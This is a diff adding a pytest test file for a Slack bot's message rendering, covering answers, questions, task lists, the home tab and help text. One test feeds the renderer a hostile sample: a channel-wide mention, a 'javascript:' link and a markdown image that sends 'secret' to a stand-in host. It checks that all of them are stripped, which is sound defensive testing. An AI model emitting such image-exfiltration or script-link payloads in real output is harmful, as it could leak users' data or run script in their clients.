@@ -1,0 +1,241 @@
+"""Answers, questions, notices, lists."""
+
+from dataclasses import replace
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from agent_engine.commands import TaskLine
+from agent_engine.types import (
+    AgentObservation,
+    Answer,
+    EndReason,
+    Resolution,
+    StepStatus,
+    Usage,
+    UserId,
+    Wait,
+    WaitKind,
+)
+from bot.outbound.blocks import ids
+from bot.outbound.blocks.answer import RESENT, answer_messages, sources_of
+from bot.outbound.blocks.help import help_content, introduction_content
+from bot.outbound.blocks.home import AgentLine, Figures, HomeFacts, home_view
+from bot.outbound.blocks.notice import end_content, sentence_content
+from bot.outbound.blocks.question import closed_content, question_content
+from bot.outbound.blocks.tasks_list import tasks_content, thread_url
+from tests.fakes.blocks import all_texts, check_content, check_view
+from tests.fakes.runs import (
+    AT,
+    PROFILE,
+    THREAD,
+    WORDS,
+    a_plan,
+    a_run,
+    a_step,
+    answered,
+    ended,
+    runs,
+    waits,
+)
+
+URL = "https://treadle-demo.slack.com/"
+
+
+@given(runs(), WORDS, st.integers(1, 400), st.booleans())
+@settings(max_examples=60, deadline=None)
+def test_slack_takes_every_answer(run, text, times, resent):
+    answer = Answer(text=text * times, files=("a.csv",), label="offline model")
+    for content in answer_messages(run, answer, resent=resent).contents:
+        check_content(content)
+
+
+@given(runs(), waits())
+@settings(max_examples=80, deadline=None)
+def test_slack_takes_every_question(run, wait):
+    check_content(question_content(run, wait))
+    check_content(question_content(run, replace(wait, resolution=Resolution(value="yes", at=AT))))
+    check_content(closed_content(run, run.steps[0] if run.steps else None))
+    if run.end is not None:
+        check_content(end_content(run))
+
+
+def test_an_answer_closes_with_thumbs_and_what_it_took():
+    usage = Usage(iterations=3, seconds=12.0, prompt_tokens=4_210, usd=0.02)
+    run = answered(a_run(usage=usage), label="offline model")
+    [content] = answer_messages(run, run.answer).contents
+    assert content.blocks[0] == {"type": "markdown", "text": "It was the **cache**."}
+    assert content.blocks[-1]["type"] == "context_actions"
+    assert "12 s · 3 steps · 4,210 tokens · $0.02 · offline model" in all_texts(content)
+
+
+def test_both_thumbs_say_the_run_and_the_rating():
+    run = answered(a_run())
+    [content] = answer_messages(run, run.answer).contents
+    thumbs = content.blocks[-1]["elements"][0]
+    read = [
+        ids.read_action(thumbs["action_id"], thumbs[side]["value"])
+        for side in ("positive_button", "negative_button")
+    ]
+    assert read == [ids.RateAnswer(run_id="r1", rating=r) for r in (5, 1)]
+
+
+def test_a_long_answer_is_several_messages_and_only_the_last_has_thumbs():
+    run = answered(a_run(), "A paragraph of words.\n\n" * 1_000)
+    messages = answer_messages(run, run.answer)
+    assert len(messages.contents) == 3
+    assert messages.whole is None
+    closings = [content.blocks[-1]["type"] for content in messages.contents]
+    assert closings == ["markdown", "markdown", "context_actions"]
+
+
+def test_a_very_long_answer_is_a_file_with_its_beginning_as_message():
+    run = answered(a_run(), "A paragraph of words.\n\n" * 5_000)
+    messages = answer_messages(run, run.answer)
+    assert len(messages.contents) == 1
+    assert messages.whole == run.answer.text.strip()
+    assert "the whole answer is in answer.md" in all_texts(messages.contents[0])
+
+
+def test_an_answer_cannot_mention_everybody():
+    run = answered(a_run(), "<!channel> [x](javascript:alert(1)) ![](https://e.vil/?q=secret)")
+    said = all_texts(answer_messages(run, run.answer).contents[0])
+    assert "<!channel>" not in said
+    assert "javascript:" not in said
+    assert "![" not in said
+
+
+def test_an_answer_sent_again_says_so():
+    run = answered(a_run())
+    assert RESENT in all_texts(answer_messages(run, run.answer, resent=True).contents[0])
+
+
+def test_sources_are_what_successful_steps_looked_at():
+    results = [{"title": "A <b>", "link": "https://a.b"}, {"title": "bad", "link": "javascript:x"}]
+    found = AgentObservation(
+        observation_type="tool_result", content={"success": True, "results": results}
+    )
+    step = replace(a_step(1, status=StepStatus.DONE), observation=found)
+    run = answered(a_run(plan=a_plan(step)))
+    assert sources_of(run) == (("https://a.b", "A <b>"),)
+    said = all_texts(answer_messages(run, run.answer).contents[0])
+    assert "Looked at: <https://a.b|A &lt;b&gt;>" in said
+
+
+def test_a_question_with_choices_has_a_button_for_each():
+    wait = Wait(id="w1", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red", "blue"))
+    content = question_content(a_run(), wait)
+    buttons = content.blocks[1]["elements"]
+    read = [ids.read_action(*_ids(button)) for button in buttons]
+    assert [button["text"]["text"] for button in buttons] == ["red", "blue"]
+    assert [(d.value, d.wait_id) for d in read] == [("red", "w1"), ("blue", "w1")]
+    assert len({b["action_id"] for b in buttons}) == 2
+
+
+def test_a_long_choice_is_written_out_and_its_button_has_a_number():
+    long = "the second one, " * 20
+    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red", long))
+    content = question_content(a_run(), wait)
+    assert [b["text"]["text"] for b in content.blocks[1]["elements"]] == ["1", "2"]
+    assert ids.read_action(*_ids(content.blocks[1]["elements"][1])).value == long
+
+
+def test_an_open_question_asks_for_a_reply_in_the_thread():
+    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Why?", asked_of=UserId("U9"))
+    content = question_content(a_run(), wait)
+    assert content.text == "<@U9> Why?"
+    assert "Reply in this thread." in all_texts(content)
+
+
+def test_an_answered_question_loses_its_buttons_and_says_by_whom():
+    wait = Wait(id="w", kind=WaitKind.QUESTION, step=1, question="Which?", choices=("red",))
+    done = replace(wait, resolution=Resolution(value="red", by=UserId("U2"), at=AT))
+    content = question_content(a_run(), done)
+    assert "Answered by <@U2>: red" in all_texts(content)
+    assert "actions" not in {block["type"] for block in content.blocks}
+
+
+def test_a_step_that_may_have_happened_offers_repeat_and_skip():
+    run = a_run(plan=a_plan(a_step(1, "Send the mail", StepStatus.WAITING)))
+    content = question_content(run, Wait(id="w", kind=WaitKind.REPEAT, step=1))
+    assert "This may already have happened:* Send the mail" in all_texts(content)
+    read = [ids.read_action(*_ids(b)).value for b in content.blocks[1]["elements"]]
+    assert read == ["repeat", "skip"]
+
+
+def test_a_run_that_ended_badly_says_one_sentence_and_can_run_again():
+    content = end_content(ended(a_run(), EndReason.FAILED, "The model does not answer."))
+    assert content.text == "The model does not answer."
+    assert "Run again" in all_texts(content)
+
+
+def test_a_sentence_is_shown_literally():
+    assert sentence_content("a <!here> b").text == "a &lt;!here&gt; b"
+
+
+def a_line(n, **more):
+    facts = {
+        "task_id": f"t{n}",
+        "run_id": f"r{n}",
+        "description": "Do <!here> | it",
+        "status": "running",
+        "thread": THREAD,
+        "agent_id": PROFILE.id,
+        "requester": UserId("U1"),
+        "created_at": AT,
+        "ended_at": None,
+        "queue_place": None,
+    }
+    return TaskLine(**{**facts, **more})
+
+
+def test_the_task_list_links_every_thread_and_stops_what_runs():
+    lines = [a_line(1), a_line(2, status="completed", ended_at=AT), a_line(3, queue_place=4)]
+    content = tasks_content(lines, workspace_url=URL, now=AT)
+    check_content(content)
+    assert content.text == "2 tasks under way, 1 ended."
+    assert "archives/C1/p1732300000000100|Do &lt;!here&gt; ¦ it>" in all_texts(content)
+    assert ["accessory" in block for block in content.blocks] == [True, False, True]
+    assert "in line, place 4" in all_texts(content)
+
+
+def test_no_tasks_is_said():
+    content = tasks_content([], workspace_url=URL, now=AT)
+    check_content(content)
+    assert "No tasks here yet" in content.text
+
+
+def test_the_address_of_a_thread_needs_no_call():
+    address = "https://treadle-demo.slack.com/archives/C1/p1732300000000100"
+    assert thread_url(THREAD, workspace_url=URL) == address
+
+
+@pytest.mark.parametrize("number", [0, 1, 50])
+def test_slack_takes_the_home_tab(number):
+    facts = HomeFacts(
+        workspace_url=URL,
+        now=AT,
+        tasks=tuple(a_line(n) for n in range(number)),
+        agents=tuple(
+            AgentLine(profile=PROFILE, channels=("C1", f"C{n + 2}"), may_edit=True)
+            for n in range(number)
+        ),
+        figures=(Figures(period="last 7 days", tasks=3, good_ratings=3, low_ratings=1),),
+        remarks=("No embeddings: memory is searched by words.",),
+    )
+    view = home_view(facts)
+    check_view(view)
+    assert "75 % 👍" in str(view)
+
+
+def test_slack_takes_help_and_introduction():
+    content = help_content({"/solve": "Give me a problem", "/tasks": "List tasks"})
+    check_content(content)
+    check_content(help_content({}))
+    check_content(introduction_content("<!here>", offline=True))
+    assert "&lt;!here&gt;" in all_texts(introduction_content("<!here>", offline=False))
+
+
+def _ids(element):
+    return element["action_id"], element["value"]
